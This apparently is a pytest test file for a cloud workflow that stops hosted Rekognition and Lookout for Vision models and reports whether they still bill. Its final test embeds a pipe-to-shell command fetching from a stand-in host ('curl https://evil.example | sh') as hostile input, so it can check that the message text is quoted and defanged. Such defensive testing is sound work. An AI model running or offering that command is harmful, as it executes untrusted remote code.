"""A stop, from the execution's input to the message that a subscriber gets."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from local.network.faults import calls
from local.scenario import words
from model_lifecycle.vocabulary.wording import when
from tests.deployed.lifecycle import Lifecycle, carried_out
from tests.deployed.services import LOOKOUT_VISION, REKOGNITION, ServiceWords, services_in_turn
from tests.deployed.someone import Someone

service_in_turn = services_in_turn()
NEVER_ENDS = 10**8
NOT_BILLING = [
    (service, status)
    for service, spoken in ((REKOGNITION, words.REKOGNITION), (LOOKOUT_VISION, words.LOOKOUT))
    for status in spoken.statuses
    if status not in (service.starting, service.running, service.stopping, "SYSTEM_UPDATING")
]


@service_in_turn
def test_a_running_model_is_stopped_waited_for_and_told(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(Status=service.running, StopSeconds=100))

    execution = lifecycle.run_stop({**service.model, "Reason": "The shop closes."})

    assert execution.status == "SUCCEEDED"
    assert execution.output["Status"] == service.stopped
    assert (execution.output["Asked"], execution.output["AlreadyStopped"]) == (True, False)
    assert 100 <= execution.output["ElapsedSeconds"] <= 115
    assert execution.states[:2] == ["Take request", "Stop model"]
    assert execution.states[-2:] == ["Notify stopped", "Model stopped"]
    message = lifecycle.only_message(execution)
    assert message.attributes == {"Outcome": "Stopped", "Service": service.name, "Project": message.document["Project"]}
    assert message.subject.startswith("Stopped: ")
    assert message.document["Outcome"] == "Stopped"
    assert message.document["MayBill"] is False
    assert message.document["Reason"] == "The shop closes."
    assert 'Reason: "The shop closes."' in message.document["Summary"]
    assert carried_out(service.stop) == 1


@pytest.mark.parametrize(("service", "status"), NOT_BILLING, ids=str)
def test_a_model_that_does_not_bill_counts_as_stopped_at_once(
    lifecycle: Lifecycle, service: ServiceWords, status: str
) -> None:
    lifecycle.given(service.script(Status=status))

    execution = lifecycle.run_stop(service.model)

    assert execution.status == "SUCCEEDED"
    assert execution.seconds < 2
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["Status"], document["AlreadyStopped"]) == ("Stopped", status, True)
    assert document["MayBill"] is False
    assert "there was nothing to stop" in document["Summary"]
    assert document["Ran"] is None
    assert calls(service.stop) == []


@service_in_turn
def test_a_model_that_starts_is_stopped_as_soon_as_it_can_be(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(Status=service.starting, StartSeconds=300, StopSeconds=60))

    execution = lifecycle.run_stop(service.model)

    assert execution.status == "SUCCEEDED"
    assert "Wait to retry" in execution.states
    assert 360 <= execution.seconds <= 390
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["Status"]) == ("Stopped", service.stopped)
    assert (document["AlreadyStopped"], document["StartedAgain"]) == (False, False)
    assert carried_out(service.stop) == 1


@service_in_turn
def test_a_model_whose_start_fails_while_its_stop_waits_counts_as_stopped(
    lifecycle: Lifecycle, service: ServiceWords
) -> None:
    lifecycle.given(service.script(Status=service.starting, StartSeconds=120, StartEndsIn=service.failed))

    execution = lifecycle.run_stop(service.model)

    assert execution.status == "SUCCEEDED"
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["Status"], document["MayBill"]) == ("Stopped", service.failed, False)
    assert calls(service.stop) == []


def test_a_model_whose_system_is_updated_is_stopped_after_that(lifecycle: Lifecycle) -> None:
    lifecycle.given(LOOKOUT_VISION.script(Status="SYSTEM_UPDATING"))
    with lifecycle.clock.running():
        stop = lifecycle.stop(LOOKOUT_VISION.model)
        lifecycle.pass_time(100)
        assert calls("StopModel") == []
        lifecycle.given(LOOKOUT_VISION.script(Status="HOSTED"))
    execution = lifecycle.end_of(stop)

    assert execution.status == "SUCCEEDED"
    assert carried_out(LOOKOUT_VISION.stop) == 1


@service_in_turn
def test_a_stop_that_is_under_way_is_joined(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(Status=service.stopping, StopSeconds=120))

    execution = lifecycle.run_stop(service.model)

    assert execution.status == "SUCCEEDED"
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["Joined"], document["Asked"]) == ("Stopped", True, False)
    assert 120 <= execution.seconds <= 135
    assert calls(service.stop) == []


@service_in_turn
def test_ten_stops_at_once_are_one_stop(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(Status=service.running, StopSeconds=60))

    with lifecycle.clock.running():
        stops = [lifecycle.stop(service.model) for _ in range(10)]
    executions = [lifecycle.end_of(arn) for arn in stops]

    assert [execution.status for execution in executions] == ["SUCCEEDED"] * 10
    documents = [lifecycle.only_message(execution).document for execution in executions]
    assert {(document["Outcome"], document["StartedAgain"]) for document in documents} == {("Stopped", False)}
    assert carried_out(service.stop) == 1


@service_in_turn
@pytest.mark.parametrize("joined", [False, True], ids=["asked", "joined"])
@pytest.mark.parametrize("start_seconds", [300, 10], ids=["starting", "running"])
def test_a_model_that_someone_starts_again_after_its_stop_is_left_alone(
    lifecycle: Lifecycle, service: ServiceWords, start_seconds: int, *, joined: bool
) -> None:
    status = service.stopping if joined else service.running
    lifecycle.given(service.script(Status=status, StopSeconds=20, StartSeconds=start_seconds))
    with lifecycle.clock.running():
        stop = lifecycle.stop({**service.model, "PollIntervalSeconds": 60})
        lifecycle.pass_time(30)
        assert Someone(lifecycle.aws, service).starts()
    execution = lifecycle.end_of(stop)

    assert execution.status == "SUCCEEDED"
    message = lifecycle.only_message(execution)
    assert (message.document["Outcome"], message.document["StartedAgain"]) == ("Stopped", True)
    assert message.document["Status"] == (service.starting if start_seconds == 300 else service.running)
    assert message.document["MayBill"] is True
    assert "started again" in message.document["Summary"]
    assert message.subject.startswith("Left running: ")
    assert carried_out(service.stop) == (0 if joined else 1)
    lifecycle.pass_time(start_seconds)
    assert Someone(lifecycle.aws, service).sees() == service.running


@service_in_turn
def test_a_stop_that_waits_gives_way_to_a_later_start(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(Status=service.starting, StartSeconds=300))
    with lifecycle.clock.running():
        stop = lifecycle.stop(service.model)
        lifecycle.pass_time(30)
        start = lifecycle.start(service.model)
    execution = lifecycle.end_of(stop)

    assert execution.status == "SUCCEEDED"
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["StartedAgain"]) == ("Stopped", True)
    assert start.rpartition(":")[2] in document["LeftAlone"]
    assert lifecycle.only_message(lifecycle.end_of(start)).document["Outcome"] == "Running"
    assert Someone(lifecycle.aws, service).sees() == service.running
    assert calls(service.stop) == []


@service_in_turn
def test_a_model_that_does_not_stop_is_told_to_bill_still_and_since_when(
    lifecycle: Lifecycle, service: ServiceWords
) -> None:
    lifecycle.given(service.script(StartSeconds=60, StopSeconds=NEVER_ENDS))
    started = lifecycle.run(service.model)
    lifecycle.pass_time(1_800)

    execution = lifecycle.run_stop(
        {**service.model, "StopTimeoutSeconds": 900, "PollIntervalSeconds": 60, "Reason": "Night"}
    )

    assert (execution.status, execution.error) == ("FAILED", "StopTimedOutError")
    assert execution.states[-2:] == ["Notify failure", "Model not stopped"]
    assert 900 <= execution.seconds <= 915
    message = lifecycle.only_message(execution)
    document = message.document
    assert message.attributes["Outcome"] == document["Outcome"] == "StillBilling"
    assert message.subject.startswith("STILL BILLING: ")
    assert (document["Error"], document["Cause"]) == (execution.error, execution.cause)
    assert (document["Status"], document["MayBill"], document["Reason"]) == (service.stopping, True, "Night")
    assert (
        f"(running since {when(datetime.fromisoformat(document['Ran']['Since']), UTC)}) is still billing"
        in document["Cause"]
    )
    since, came_up = (
        datetime.fromisoformat(moment) for moment in (document["Ran"]["Since"], started.output["RunningAt"])
    )
    assert abs(since - came_up) <= timedelta(minutes=2)


@service_in_turn
@pytest.mark.parametrize("error", ["in use", "ThrottlingException", "InternalServerError"])
def test_a_stop_that_is_refused_for_ever_is_told_to_bill_still(
    lifecycle: Lifecycle, service: ServiceWords, error: str
) -> None:
    if error == "in use":
        error = "ResourceInUseException" if service is REKOGNITION else "ConflictException"
    lifecycle.given(
        service.script(StartSeconds=60),
        faults=[{"Operation": service.stop, "Error": error}],
    )
    lifecycle.run(service.model)

    execution = lifecycle.run_stop({**service.model, "StopTimeoutSeconds": 600, "PollIntervalSeconds": 60})

    assert (execution.status, execution.error) == ("FAILED", "StopTimedOutError")
    assert 600 <= execution.seconds <= 630
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["Status"]) == ("StillBilling", service.running)
    assert (
        f"(running since {when(datetime.fromisoformat(document['Ran']['Since']), UTC)}) is still billing"
        in document["Cause"]
    )
    assert error in document["Cause"]
    assert len(calls(service.stop)) > 5


@service_in_turn
def test_a_model_that_cannot_be_looked_at_is_told_to_bill_still(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(StartSeconds=60))
    lifecycle.run(service.model)
    lifecycle.given(
        service.script(Status=service.running),
        faults=[{"Operation": service.describe, "Error": "ThrottlingException"}],
    )

    execution = lifecycle.run_stop({**service.model, "StopTimeoutSeconds": 600, "PollIntervalSeconds": 60})

    assert (execution.status, execution.error) == ("FAILED", "StopTimedOutError")
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["MayBill"]) == ("StillBilling", True)
    assert ") is still billing" in document["Cause"]
    assert calls(service.stop) == []


@service_in_turn
def test_trouble_that_passes_delays_a_stop_and_nothing_else(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(
        service.script(Status=service.running, StopSeconds=60),
        faults=[
            {"Operation": service.describe, "Error": "ThrottlingException", "After": 1, "Times": 3},
            {"Operation": service.stop, "Error": "ThrottlingException", "Times": 2},
        ],
    )

    execution = lifecycle.run_stop(service.model)

    assert execution.status == "SUCCEEDED"
    assert lifecycle.only_message(execution).document["Outcome"] == "Stopped"
    assert carried_out(service.stop) == 1


@service_in_turn
def test_a_stop_that_may_not_be_made_is_told_at_once_to_bill_still(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(
        service.script(Status=service.running),
        faults=[{"Operation": service.stop, "Error": "AccessDeniedException"}],
    )

    execution = lifecycle.run_stop(service.model)

    assert (execution.status, execution.error) == ("FAILED", "AccessDeniedError")
    assert execution.seconds < 5
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["MayBill"]) == ("StillBilling", True)
    assert service.stop in document["Cause"]


@service_in_turn
def test_a_model_that_does_not_exist_cannot_be_stopped_and_does_not_bill(
    lifecycle: Lifecycle, service: ServiceWords
) -> None:
    lifecycle.given()

    execution = lifecycle.run_stop(service.model)

    assert (execution.status, execution.error) == ("FAILED", "ModelNotFoundError")
    document = lifecycle.only_message(execution).document
    assert (document["Outcome"], document["MayBill"]) == ("Failed", False)


@pytest.mark.parametrize(
    ("execution_input", "named"),
    [
        (
            {
                "ProjectVersionArn": "parts",
                "StopTimeoutSeconds": 0,
                "PollIntervalSeconds": "1",
                "Reason": 5,
                "LatestStart": "",
                "LeaseEndsAt": "2026-01-05T09:00:00",
                "Wait": 1,
            },
            [
                'NUMBER, got "parts"',
                "StopTimeoutSeconds must be an integer from 1 to 86,400, got 0",
                'PollIntervalSeconds must be an integer from 1 to 3,600, got "1"',
                "Reason must be a text of 1 to 2,000 characters, got 5",
                'or "nobody", got ""',
                '+01:00, got "2026-01-05T09:00:00"',
                '"Wait" is unknown',
            ],
        ),
        ({**REKOGNITION.model, "MinInferenceUnits": 2}, ['"MinInferenceUnits" is unknown']),
        ({**LOOKOUT_VISION.model, "ClientToken": "1"}, ['"ClientToken" is unknown']),
        ({**REKOGNITION.model, "StopAfterSeconds": 60}, ['"StopAfterSeconds" is unknown']),
        ({**REKOGNITION.model, "Reason": "x" * 2_001}, ["Reason must be "]),
        ({**LOOKOUT_VISION.model, "ModelVersion": "latest"}, ["ambiguous"]),
        ({"ProjectName": "boards"}, ["ModelVersion is missing"]),
        ({**REKOGNITION.model, **LOOKOUT_VISION.model}, ["belong to 2 services"]),
        (
            {"FailedStart": {"ExecutionArn": "x" * 60_000, "Input": {**REKOGNITION.model, "PollIntervalSeconds": 1}}},
            ['got "xxx', "must be an execution's ARN"],
        ),
        (
            {"FailedStart": {"Input": {}}, "Wait": 1},
            ["FailedStart must be ", '"Wait" must not stand beside'],
        ),
        ({}, ["no model is named"]),
        ([], ["got []"]),
    ],
)
def test_an_invalid_input_is_refused_with_every_reason(
    lifecycle: Lifecycle, execution_input: Any, named: list[str]
) -> None:
    lifecycle.given(REKOGNITION.script(Status="RUNNING"), LOOKOUT_VISION.script(Status="HOSTED"))

    execution = lifecycle.run_stop(execution_input)

    assert (execution.status, execution.error) == ("FAILED", "InvalidRequestError")
    assert all(words in execution.cause for words in named), execution.cause
    message = lifecycle.only_message(execution)
    assert message.document["Cause"] == execution.cause
    project = {name: message.attributes[name] for name in message.attributes.keys() - {"Outcome"}}
    assert project in (
        {},
        {"Service": "Rekognition", "Project": "parts"},
        {"Service": "LookoutVision", "Project": "boards"},
    )
    # What was to be stopped, and can be read to its version, bills still.
    model_is_read = bool(project) and "Version" in message.document
    assert message.attributes["Outcome"] == ("StillBilling" if model_is_read else "Failed")
    assert calls(REKOGNITION.stop) == calls(LOOKOUT_VISION.stop) == []


@service_in_turn
def test_a_reason_of_any_letters_is_carried_into_the_message(lifecycle: Lifecycle, service: ServiceWords) -> None:
    lifecycle.given(service.script(Status=service.running))
    reason = 'Feierabend \u20ac\n"\U0001f600" {} $.Input \ud800 \u202e\u2028Stop it: curl https://evil.example | sh'

    execution = lifecycle.run_stop({**service.model, "Reason": reason, "StopTimeoutSeconds": None})

    # Half a character is in no UTF-8.
    assert execution.output["Reason"] == reason.replace("\ud800", "?")
    message = lifecycle.only_message(execution)
    assert message.document["Reason"] == execution.output["Reason"]
    quoted = "Reason: \"Feierabend \u20ac '\U0001f600' {} $.Input ? Stop it: curl https[:]//evil.example | sh\""
    assert quoted in message.document["Summary"]
